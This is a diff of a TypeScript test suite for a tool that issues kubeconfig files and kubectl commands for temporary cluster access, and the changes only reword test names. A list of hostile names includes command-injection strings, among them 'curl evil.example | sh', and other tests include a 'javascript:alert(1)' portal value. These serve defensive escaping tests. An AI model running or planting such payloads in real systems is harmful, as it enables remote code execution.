@@ -77,7 +77,7 @@ region = eu-west-1
   });
 });
 
-describe("access by a role of one's own", () => {
+describe("access by the person's own role", () => {
   const roleArn = "arn:aws:iam::310254875561:role/people/ana.silva@acme.example";
   const facts: AccessFacts = { ...FACTS, principal: { strategy: "IAM_ROLE_TEMPLATE", roleArn } };
 
@@ -135,19 +135,19 @@ describe("the kubeconfig", () => {
     ["secrets only", [secrets(["payments"])], [], "payments", "get secrets"],
     ["a group too", [view(["payments"])], ["readers"], "payments", "get pods"],
     ["a group only", [], ["readers"], undefined, "auth whoami"],
-  ])("begins where and with what is allowed: %s", (_what, policies, kubernetesGroups, namespace, words) => {
+  ])("begins in an allowed namespace: %s", (_what, policies, kubernetesGroups, namespace, words) => {
     const { kubeconfig, commands, steps } = accessDetailsOf({ ...FACTS, access: { policies, kubernetesGroups } });
     expect(parse(kubeconfig!.text).contexts[0].context.namespace).toBe(namespace);
     expect(commands.use).toBe(`kubectl --kubeconfig ${FOLDER}/kubeconfig.yaml" ${words}`);
     expect(steps.join(" ").includes("matches dev-* or team-* in place of NAMESPACE")).toBe(words.includes("NAMESPACE"));
   });
 
-  it("names the other namespaces that may be used", () => {
+  it("names the other usable namespaces", () => {
     const access = { policies: [view(["checkout", "team-*"])], kubernetesGroups: [] };
     expect(accessDetailsOf({ ...FACTS, access }).notes.join("\n")).toContain("that you may use: checkout, team-*.");
   });
 
-  it("is none where the cluster has no endpoint yet", () => {
+  it("does not exist where the cluster has no endpoint yet", () => {
     const { kubeconfig, commands, steps } = accessDetailsOf(withCluster({ endpoint: null }));
     expect([kubeconfig, commands.use]).toEqual([null, null]);
     expect(steps.join(" ")).toContain("not known yet");
@@ -161,7 +161,7 @@ describe("the kubeconfig", () => {
   });
 });
 
-describe("what somebody else has named", () => {
+describe("a name from outside", () => {
   const HOSTILE = [
     "x'; touch /tmp/owned; '",
     'x"; curl evil.example | sh; "',
@@ -177,7 +177,7 @@ describe("what somebody else has named", () => {
     "$HOME",
   ];
 
-  it.each(HOSTILE)("stays a file in a shell, the text it is: %j", (name) => {
+  it.each(HOSTILE)("stays a file in a shell, as the text it is: %j", (name) => {
     const details = accessDetailsOf(hostile(name));
     const home = mkdtempSync(join(tmpdir(), "drawbridge-hostile-"));
     execFileSync("/bin/sh", ["-c", details.commands.save], { env: { PATH: "/usr/bin:/bin", HOME: home } });
@@ -225,11 +225,11 @@ describe("what somebody else has named", () => {
   });
 
   it.each(["javascript:alert(1)", "http://acme.awsapps.com/start", 'https://acme.example/"onclick="x'])(
-    "is no portal: %s",
+    "is refused as a portal: %s",
     (portal) => expect(accessDetailsOf({ ...FACTS, sso: { ...FACTS.sso, portal } }).portalLink).toBeNull(),
   );
 
-  it("is shown as the text it is", () => {
+  it("is shown as plain text", () => {
     const { customAccessDetails } = accessDetailsOf({
       ...FACTS,
       customAccessDetails: "<b>Ask</b>\nhttps://wiki.example",
@@ -238,24 +238,24 @@ describe("what somebody else has named", () => {
   });
 });
 
-describe("what a person should know", () => {
-  it("GRANT-23, GRANT-25: is what ends late, and what kubectl does not tell", () => {
+describe("the notes about access", () => {
+  it("GRANT-23, GRANT-25: name access that ends late, and limits that kubectl does not show", () => {
     const notes = accessDetailsOf(FACTS).notes.join("\n");
     expect(notes).toContain("up to 15 minutes");
     expect(notes).toContain("port-forward");
     expect(notes).toContain("can-i");
   });
 
-  it("is that access without an end ends when it is revoked", () => {
+  it("state that access without an end ends when it is revoked", () => {
     expect(accessDetailsOf({ ...FACTS, endsAt: null }).notes.join("\n")).toContain("until it is revoked");
   });
 
-  it("GRANT-20: is that a private endpoint takes a network to reach it", () => {
+  it("GRANT-20: state that a private endpoint takes a network to reach it", () => {
     expect(accessDetailsOf(withCluster({ endpointPublicAccess: false })).notes.join("\n")).toContain("private");
     expect(accessDetailsOf(withCluster({ endpointPublicAccess: null })).notes.join("\n")).not.toContain("private");
   });
 
-  it("is each step, with the commands to copy", () => {
+  it("list each step, with the commands to copy", () => {
     const { steps, environment } = accessDetailsOf(FACTS);
     expect(steps).toEqual([
       expect.stringContaining("save command"),
@@ -272,12 +272,12 @@ describe("what a person should know", () => {
   });
 });
 
-describe("access that has ended", () => {
+describe("ended access", () => {
   const activeAt = new Date("2026-11-25T09:00:00Z");
   const endAskedAt = new Date("2026-11-25T10:00:00Z");
   const grant = { id: GRANT, resourceArn: CLUSTER.arn, resourceName: "payments-eu", activeAt, endAskedAt };
 
-  it("says so, and how to remove the very folder that was handed out", () => {
+  it("has that note, and the way to remove the very folder of the grant", () => {
     const ended = endedAccessOf({ ...grant, endedAt: new Date("2026-11-25T10:00:20Z") });
     expect(ended?.message).toContain("payments-eu ended at 2026-11-25T10:00:20.000Z");
     expect(ended?.removeCommand).toBe(accessDetailsOf(FACTS).commands.remove);
@@ -285,7 +285,7 @@ describe("access that has ended", () => {
     expect(endedAccessOf({ ...grant, endedAt: null })?.message).toContain("ending since 2026-11-25T10:00:00.000Z");
   });
 
-  it("is nothing where nothing was handed out, or it has not ended", () => {
+  it("has no folder to remove where none was used, or before its end", () => {
     expect(endedAccessOf({ ...grant, activeAt: null, endedAt: endAskedAt })).toBeNull();
     expect(endedAccessOf({ ...grant, endAskedAt: null, endedAt: null })).toBeNull();
   });
